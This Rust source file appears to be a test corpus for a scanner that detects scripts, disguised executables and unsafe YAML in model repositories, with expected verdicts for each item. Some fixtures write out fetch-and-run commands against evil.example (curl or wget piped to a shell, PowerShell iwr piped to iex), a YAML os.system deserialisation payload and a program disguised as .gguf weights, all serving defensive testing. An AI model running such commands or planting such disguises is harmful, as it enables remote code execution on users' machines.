//! Files that a shell or another tool runs, and texts that only look like them.

use crate::corpus::{Expect, Item};

/// Scripts: name, path, text.
const SCRIPTS: &[(&str, &str, &str)] = &[
    ("first-line", "install", "#!/bin/sh\nexec true\n"),
    ("first-line-as-text", "notes.txt", "#!/bin/sh\nexec true\n"),
    ("first-line-as-markdown", "README.md", "#!/usr/bin/env bash\nexec true\n"),
    ("first-line-as-weights-list", "weights.lst", "#!/usr/bin/perl\nsystem('true');\n"),
    ("first-line-after-mark", "setup", "\u{feff}#!/bin/sh\nexec true\n"),
    ("first-line-as-yaml", "config.yaml", "#!/bin/sh\n# x: 1\n"),
    ("no-first-line", "install", "\nset -e\ncurl http://evil.example/x | sh\n"),
    ("no-first-line-commented", "setup", "# sets up the model\n\nexport PATH=/tmp:$PATH\nmake\n"),
    ("no-first-line-assigned", "run", "MODEL=x\npython -c 'import os'\n"),
    ("no-first-line-function", "start", "main() {\n  true\n}\nmain\n"),
    ("no-first-line-condition", "entrypoint", "if [ -f x ]; then\n  sh x\nfi\n"),
    ("no-first-line-piped", "download", "(wget -qO- http://evil.example/x) | bash\n"),
    ("no-first-line-sudo", "bootstrap", "sudo true\n"),
    ("no-first-line-sourced", "activate", ". ./env\n"),
    ("hook", "hooks/post-checkout", "touch /tmp/x\n"),
    ("make", "GNUmakefile", "all:\n\ttouch /tmp/x\n"),
    ("just", "justfile", "default:\n    touch /tmp/x\n"),
    ("desktop", "Model.desktop", "[Desktop Entry]\nType=Application\nExec=touch /tmp/x\n"),
    ("unit", "model.service", "[Service]\nExecStart=/bin/touch /tmp/x\n"),
    ("timer", "model.timer", "[Timer]\nOnBootSec=1\n"),
    ("command", "Install.command", "touch /tmp/x\n"),
    ("cmd", "install.cmd", "@echo off\r\necho x\r\n"),
    ("power-shell", "install.ps1", "iwr http://evil.example/x | iex\n"),
    ("slurm", "train.slurm", "srun python train.py\n"),
    ("julia", "convert.jl", "run(`true`)\n"),
    ("r", "train.R", "system('true')\n"),
];

/// Texts without a suffix that no shell is meant to run: name, path, text.
const TEXTS: &[(&str, &str, &str)] = &[
    ("readme", "README", "Run\n\ncurl https://x.example/model | tar x\n"),
    ("licence", "LICENSE", "if you find this useful, set it free\n"),
    ("sentence", "ABOUT", "if the model is large, make room for it first.\n"),
    ("sentence-with-command", "ABOUT", "git is where the weights are kept.\n"),
    ("list", "labels", "cat\ndog\ntrue bug\nmake\n"),
    ("numbers", "steps", "1000\n2000\n"),
    ("set", "split", "set of images\ntest\n"),
    ("reference", "refs", "0123456789abcdef refs/heads/main\n"),
];

/// The items.
pub(super) fn items() -> Vec<Item> {
    let scripts = SCRIPTS.iter().map(|(name, path, text)| {
        Item::new(format!("file-script-{name}"), Expect::Review, path, *text).fires(&["script"])
    });
    let texts = TEXTS.iter().map(|(name, path, text)| {
        Item::new(format!("file-no-script-{name}"), Expect::Safe, path, *text).quiet(&["script"])
    });
    scripts.chain(texts).chain(programs()).chain(both()).collect()
}

/// Programs for any system: to a Unix shell they are scripts.
fn programs() -> Vec<Item> {
    let body = "\ntrue\n".repeat(20);
    let mut windows = format!("MZqFpD='{body}").into_bytes();
    windows.resize(0x80, b'\n');
    windows[0x3c..0x40].copy_from_slice(&0x80_u32.to_le_bytes());
    windows.extend(b"PE\0\0\x64\x86");
    let program = |name: &str, path: &str, bytes: Vec<u8>| {
        Item::new(format!("file-program-{name}"), Expect::Review, path, bytes).fires(&["native-code"])
    };
    vec![
        program("llamafile", "m.llamafile", format!("MZqFpD='{body}").into_bytes()),
        program("llamafile-windows", "m.llamafile", windows),
        program("unix", "model.com", format!("jartsr='{body}").into_bytes()),
        program("debug", "model", format!("APEDBG='{body}").into_bytes()),
        program("short", "m.llamafile", b"MZqFpD='\ntrue\n".to_vec()),
        Item::new("file-program-as-weights", Expect::Dangerous, "model.gguf", format!("jartsr='{body}"))
            .fires(&["disguised-executable"]),
    ]
}

/// What is a script to who runs it, and something else to who reads it by its name.
fn both() -> Vec<Item> {
    vec![
        Item::new(
            "file-script-and-yaml",
            Expect::Dangerous,
            "config.yaml",
            "#!/usr/bin/env python3\nx: !!python/object/apply:os.system ['true']\n",
        )
        .fires(&["script"]),
        Item::new(
            "file-script-python-first-line",
            Expect::Dangerous,
            "train",
            "#!/usr/bin/env -S uv run\nimport os\nos.system('true')\n",
        ),
    ]
}
